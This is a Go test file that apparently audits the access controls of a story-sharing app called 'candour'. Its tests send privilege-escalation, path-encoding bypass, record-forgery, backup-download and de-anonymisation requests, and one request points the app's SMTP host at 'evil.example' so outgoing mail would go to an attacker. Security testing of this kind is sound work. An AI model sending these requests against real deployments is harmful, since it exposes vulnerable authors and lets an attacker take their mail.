package zz_attack

import (
	"net/url"
	"strings"
	"testing"

	"candour/internal/flow"
	"candour/internal/records"
)

var q = url.QueryEscape

func TestSuperuserReads(t *testing.T) {
	s := newScene(t)
	a := s.tell(nil)
	b := s.tell(func(x *flow.Sent) { x.Title = "Another one of the same person" })
	c := s.tell(func(x *flow.Sent) { x.Email = "ben@example.org" })
	s.publish(a)
	s.publish(c)
	ada := must(records.FindAuthorOf(s.App, a))(t)
	s.ok(flow.CorrectAnswers(s.App, ada.Id, records.Answers{Gender: "woman", BirthYear: "1961"}))
	s.ok(flow.NoteReading(s.App, ada.Id, c))
	t.Logf("a=%s b=%s c=%s ada=%s", a, b, c, ada.Id)
	for _, x := range [][2]string{
		{"list letters", "/api/collections/letters/records?perPage=3&fields=kind,story,toCollection,to"},
		{"list readings", "/api/collections/readings/records?fields=author,story"},
		{"list exports", "/api/collections/exports/records"},
		{"list authorships", "/api/collections/authorships/records"},
		{"list disclosures", "/api/collections/disclosures/records"},
		{"same author filter", "/api/collections/stories/records?fields=id&filter=" + q("authorships_via_story.author.authorships_via_author.story ?= '"+a+"'")},
		{"author filter", "/api/collections/stories/records?fields=id&filter=" + q("authorships_via_story.author = '"+ada.Id+"'")},
		{"demographics filter", "/api/collections/stories/records?fields=id&filter=" + q("authorships_via_story.author.demographics_via_author.gender ?= 'woman'")},
		{"@collection filter", "/api/collections/stories/records?fields=id&filter=" + q("@collection.authorships.story ?= id && @collection.authorships.author ?= '"+ada.Id+"'")},
		{"@collection demographics", "/api/collections/organisations/records?fields=id&filter=" + q("@collection.demographics.gender ?= 'woman'")},
		{"originals filter", "/api/collections/stories/records?fields=id&filter=" + q("originals_via_story.text ?~ 'bay'")},
		{"sort by author", "/api/collections/stories/records?fields=id&sort=authorships_via_story.author"},
		{"expand", "/api/collections/stories/records?fields=id,expand&filter=" + q("id='"+a+"'") + "&expand=authorships_via_story.author.authorships_via_author.story"},
		{"expand contacts", "/api/collections/stories/records?filter=" + q("id='"+a+"'") + "&fields=id,expand&expand=contacts_via_story,originals_via_story,authorships_via_story"},
		{"scopes area", "/api/collections/story_scopes/records?fields=story,why,organisation"},
		{"contacts by organisations view", "/api/collections/contacts/records"},
		{"tokens", "/api/collections/members/records?fields=*,tokenKey,password"},
		{"members filter hidden", "/api/collections/members/records?fields=id&filter=" + q("tokenKey ~ 'a'")},
	} {
		t.Logf("%s: %s", x[0], short(s.ask(s.super, "GET", x[1], "")))
	}
	v := s.ask(s.super, "POST", "/api/collections", `{"name":"peek","type":"view","viewQuery":"SELECT x.id, x.story, x.author AS who, o.sealedEmail AS mail FROM authorships x JOIN authors o ON o.id=x.author","listRule":""}`)
	t.Logf("create view: %s", short(v))
	t.Logf("guest reads view: %s", short(s.ask("", "GET", "/api/collections/peek/records", "")))
	t.Logf("create view on originals/messages: %s", short(s.ask(s.super, "POST", "/api/collections", `{"name":"peek2","type":"view","viewQuery":"SELECT id, text, state FROM stories","listRule":""}`)))
	t.Logf("guest reads view2: %s", short(s.ask("", "GET", "/api/collections/peek2/records", "")))
	t.Logf("create base with index name trick: %s", short(s.ask(s.super, "POST", "/api/collections", `{"name":"zz","type":"base","fields":[{"name":"x","type":"text"}],"indexes":["CREATE INDEX zzz ON authors (tokenKey)"]}`)))
	t.Logf("create base w relation + cascade: %s", short(s.ask(s.super, "POST", "/api/collections", `{"name":"zz2","type":"base","listRule":"","fields":[{"name":"a","type":"relation","collectionId":"`+ada.Collection().Id+`","maxSelect":1}]}`)))
	t.Logf("record: %s", short(s.ask(s.super, "POST", "/api/collections/zz2/records", `{"a":"`+ada.Id+`"}`)))
	t.Logf("guest: %s", short(s.ask("", "GET", "/api/collections/zz2/records?expand=a", "")))
	t.Logf("view of authors by super expand: %s", short(s.ask(s.super, "GET", "/api/collections/zz2/records?expand=a.authorships_via_author.story", "")))
}

func TestGuestPublicViews(t *testing.T) {
	s := newScene(t)
	a := s.tell(nil)
	s.publish(a)
	m := must(flow.RespondToStory(s.App, flow.Answer{StoryID: a, MemberID: s.member.Id, Text: "Thank you for telling us. We passed it on to the ward.", ShowName: true}))(t)
	r := must(records.FindResponse(s.App, m))(t)
	s.Pass(31 * 60e9)
	must(flow.SubmitWaitingResponses(s.App))(t)
	r = must(records.FindResponse(s.App, m))(t)
	s.ok(flow.PublishResponse(s.App, flow.ResponseDecision{ResponseID: m, Version: r.Version(), Moderator: s.moderator.Id}))
	ada := must(records.FindAuthorOf(s.App, a))(t)
	atok := must(ada.ProxyRecord().NewAuthToken())(t)
	mtok := must(s.member.ProxyRecord().NewAuthToken())(t)
	dtok := must(s.moderator.ProxyRecord().NewAuthToken())(t)
	for who, tok := range map[string]string{"guest": "", "author": atok, "member": mtok, "moderator": dtok} {
		for _, x := range []string{
			"/api/collections/public_responses/records",
			"/api/collections/public_responses/records?expand=storyId",
			"/api/collections/public_responses/records?fields=id&filter=" + q("storyId.urgency>=0"),
			"/api/collections/public_responses/records?fields=id&filter=" + q("storyId.submittedAt>'2020-01-01'"),
			"/api/collections/public_responses/records?fields=id&filter=" + q("storyId.authorships_via_story.author='"+ada.Id+"'"),
			"/api/collections/public_responses/records?fields=id&filter=" + q("storyId.story_scopes_via_story.why?='area'"),
			"/api/collections/public_responses/records?fields=id&sort=storyId.submittedAt",
			"/api/collections/public_stories/records?fields=id&filter=" + q("@collection.authors.id!=''"),
			"/api/collections/public_stories/records?fields=id&filter=" + q("authorships_via_story.author!=''"),
			"/api/collections/public_stories/records?fields=id&filter=" + q("public_responses_via_storyId.text?~'a'"),
			"/api/collections/public_stories/records?fields=id&filter=" + q("@request.auth.tokenKey~'a'"),
			"/api/collections/public_stories/records?fields=id&filter=" + q("publishedBy!=''"),
			"/api/collections/stories/records", "/api/collections/moderators/records", "/api/collections/authors/records/" + ada.Id,
			"/api/collections/members/records/" + s.member.Id, "/api/collections", "/api/collections/stories", "/api/settings", "/api/logs", "/api/backups", "/api/crons",
			"/api/collections/_authOrigins/records", "/api/collections/_externalAuths/records", "/api/collections/authors/auth-methods", "/api/collections/members/auth-methods",
			"/api/collections/moderators/auth-methods", "/api/collections/AUTHORS/auth-methods", "/api/collections/%61uthors/auth-methods", "/api/collections/authors%2Fauth-methods", "//api//collections/authors/auth-methods",
		} {
			got := s.ask(tok, "GET", x, "")
			if strings.HasPrefix(got, "2") || !(strings.HasPrefix(got, "40")) {
				t.Logf("%s %s: %s", who, x, short(got))
			}
		}
		for _, x := range [][3]string{
			{"PATCH", "/api/collections/moderators/records/" + s.moderator.Id, `{"senior":true}`},
			{"PATCH", "/api/collections/members/records/" + s.member.Id, `{"role":"administrator"}`},
			{"PATCH", "/api/collections/authors/records/" + ada.Id, `{"lettersOff":true}`},
			{"POST", "/api/collections/moderators/records", `{"email":"x@example.org","name":"x","password":"1234567890","passwordConfirm":"1234567890","active":true}`},
			{"POST", "/api/collections/moderators/auth-refresh", ``},
			{"POST", "/api/collections/authors/auth-refresh", ``},
			{"POST", "/api/collections/members/auth-refresh", ``},
			{"POST", "/api/collections/members/auth-with-password", `{"identity":"rita@grampian.example","password":"` + pw + `"}`},
			{"POST", "/api/collections/moderators/request-otp", `{"email":"moses@candour.example"}`},
			{"POST", "/api/collections/moderators/request-otp", `{"email":"nobody@candour.example"}`},
			{"POST", "/api/collections/moderators/request-password-reset", `{"email":"nobody@candour.example"}`},
			{"POST", "/api/collections/moderators/request-verification", `{"email":"nobody@candour.example"}`},
			{"POST", "/api/collections/moderators/request-verification", `{"email":"moses@candour.example"}`},
			{"POST", "/api/collections/moderators/request-email-change", `{"newEmail":"moses2@candour.example"}`},
			{"POST", "/api/collections/moderators/impersonate/" + s.moderator.Id, `{}`},
			{"POST", "/api/sql", `{"query":"select 1"}`}, {"POST", "/api/sql/", `{"query":"select 1"}`},
			{"PATCH", "/api/settings", `{"meta":{"appName":"x"}}`}, {"PATCH", "/api/settings/", `{"meta":{"appName":"x"}}`},
			{"POST", "/api/batch", `{"requests":[]}`}, {"POST", "/api/crons/sweep", ``}, {"POST", "/api/files/token", ``},
			{"GET", "/api/desk/queue", ""}, {"GET", "/api/desk/stories/" + a, ""},
		} {
			got := s.ask(tok, x[0], x[1], x[2])
			if !(strings.HasPrefix(got, "401") || strings.HasPrefix(got, "403") || strings.HasPrefix(got, "404")) {
				t.Logf("%s %s %s: %s", who, x[0], x[1], short(got))
			}
		}
	}
}

func TestSuperuserWrites(t *testing.T) {
	s := newScene(t)
	a := s.tell(nil)
	b := s.tell(nil)
	c := s.tell(nil)
	s.publish(b)
	su := s.super
	t.Log("PATCH publish plain:", short(s.ask(su, "PATCH", "/api/collections/stories/records/"+a, `{"state":"published","publishedBy":"`+s.moderator.Id+`","version":2,"publicationNo":99,"publishedAt":"2026-11-18 12:00:00Z"}`)))
	t.Log("forge act:", short(s.ask(su, "POST", "/api/collections/moderations/records", `{"story":"`+a+`","by":"`+s.moderator.Id+`","act":"published","version":2,"at":"2026-11-18 12:00:00Z","changed":["text"]}`)))
	t.Log("PATCH publish w act:", short(s.ask(su, "PATCH", "/api/collections/stories/records/"+a, `{"state":"published","text":"Words nobody read","publishedBy":"`+s.moderator.Id+`","version":2,"publicationNo":99,"publishedAt":"2026-11-18 12:00:00Z"}`)))
	t.Log("public now:", short(s.ask("", "GET", "/api/collections/public_stories/records/"+a, "")))
	t.Log("PATCH toldFor of published:", short(s.ask(su, "PATCH", "/api/collections/stories/records/"+b, `{"toldFor":"friend","ageGroup":"child","happenedYear":1999}`)))
	t.Log("PATCH published→withdrawn:", short(s.ask(su, "PATCH", "/api/collections/stories/records/"+b, `{"state":"withdrawn"}`)))
	t.Log("POST original:", short(s.ask(su, "POST", "/api/collections/originals/records", `{"story":"`+b+`"}`)))
	t.Log("DELETE story:", short(s.ask(su, "DELETE", "/api/collections/stories/records/"+c, "")))
	n, _ := s.CountRecords("withdrawals")
	t.Log("withdrawals after delete:", n)
	t.Log("story reborn with the number:", short(s.ask(su, "POST", "/api/collections/stories/records", `{"id":"`+c+`","title":"Reborn","text":"x","screenName":"y","toldFor":"self","ageGroup":"adult","edits":"just-publish","state":"submitted","progress":"unheard","version":1}`)))
	acts, _ := s.FindAllRecords("moderations")
	t.Log("DELETE moderation act:", short(s.ask(su, "DELETE", "/api/collections/moderations/records/"+acts[0].Id, "")))
	au, _ := s.FindAllRecords("authorships")
	t.Log("DELETE authorship:", short(s.ask(su, "DELETE", "/api/collections/authorships/records/"+au[0].Id, "")))
	co, _ := s.FindAllRecords("contacts")
	t.Log("DELETE contact:", short(s.ask(su, "DELETE", "/api/collections/contacts/records/"+co[0].Id, "")))
	le, _ := s.FindAllRecords("letters")
	t.Log("PATCH letter to:", short(s.ask(su, "PATCH", "/api/collections/letters/records/"+le[0].Id, `{"toCollection":"members","to":"`+s.member.Id+`","state":"owed"}`)))
	t.Log("POST letter password to superuser's member:", short(s.ask(su, "POST", "/api/collections/letters/records", `{"kind":"password","toCollection":"authors","to":"x","event":"zz","state":"owed"}`)))
	t.Log("POST response published:", short(s.ask(su, "POST", "/api/collections/responses/records", `{"story":"`+a+`","by":"author","text":"Forged reply by the author","state":"submitted","version":1}`)))
	t.Log("POST message as author:", short(s.ask(su, "POST", "/api/collections/messages/records", `{"story":"`+a+`","by":"author","text":"Forged"}`)))
	t.Log("POST changes on public response:", short(s.ask(su, "POST", "/api/collections/story_scopes/records", `{"story":"`+a+`","organisation":"`+s.far.Id+`","why":"service"}`)))
	t.Log("POST member:", short(s.ask(su, "POST", "/api/collections/members/records", `{"email":"evil@example.org","name":"Evil","password":"1234567890","passwordConfirm":"1234567890","organisation":"`+s.far.Id+`","role":"administrator","active":true}`)))
	t.Log("backups create:", short(s.ask(su, "POST", "/api/backups", `{"name":"x.zip"}`)))
	tok := s.ask(su, "POST", "/api/files/token", "")
	t.Log("file token:", short(tok))
	if i := strings.Index(tok, `"token":"`); i > 0 {
		ft := tok[i+9:]
		ft = ft[:strings.Index(ft, `"`)]
		z := s.ask("", "GET", "/api/backups/x.zip?token="+ft, "")
		t.Logf("backup download: %s len %d", z[:3], len(z))
	}
	t.Log("sql:", short(s.ask(su, "POST", "/api/sql", `{"query":"select 1"}`)), short(s.ask(su, "POST", "/api/sql/", `{"query":"select 1"}`)), short(s.ask(su, "POST", "/api/%73ql", `{"query":"select 1"}`)), short(s.ask(su, "POST", "//api/sql", `{"query":"select 1"}`)), short(s.ask(su, "POST", "/api/./sql", `{"query":"select 1"}`)), short(s.ask(su, "POST", "/api/SQL", `{"query":"select 1"}`)))
	t.Log("dry run:", short(s.ask(su, "POST", "/api/collections/meta/dry-run-view", `{"query":"select id from authorships"}`)))
	t.Log("truncate:", short(s.ask(su, "DELETE", "/api/collections/stories/truncate", ``)), short(s.ask(su, "DELETE", "/api/collections/stories/%74runcate/", ``)))
	t.Log("PUT import:", short(s.ask(su, "PUT", "/api/collections/import", `{"collections":[]}`)))
	t.Log("PATCH _authOrigins:", short(s.ask(su, "PATCH", "/api/collections/_otps", `{"listRule":""}`)))
	t.Log("PATCH collection stories listRule:", short(s.ask(su, "PATCH", "/api/collections/stories", `{"listRule":""}`)))
	t.Log("impersonate author:", short(s.ask(su, "POST", "/api/collections/authors/impersonate/"+au[0].GetString("author"), `{}`)))
	t.Log("impersonate moderator:", short(s.ask(su, "POST", "/api/collections/moderators/impersonate/"+s.moderator.Id, `{}`)))
	t.Log("settings smtp:", short(s.ask(su, "PATCH", "/api/settings", `{"smtp":{"enabled":true,"host":"evil.example","port":25},"batch":{"enabled":true,"maxRequests":50,"timeout":3},"logs":{"minLevel":-4,"logIP":true,"logAuthId":true,"maxDays":30}}`)))
	t.Logf("carrier: %#v", flow.CarrierOf(s.App))
	t.Log("batch authors create:", short(s.ask(su, "POST", "/api/batch", `{"requests":[{"method":"POST","url":"/api/collections/authors/records","body":{"password":"1234567890","passwordConfirm":"1234567890"}},{"method":"POST","url":"/api/collections/authorships/records","body":{}}]}`)))
}
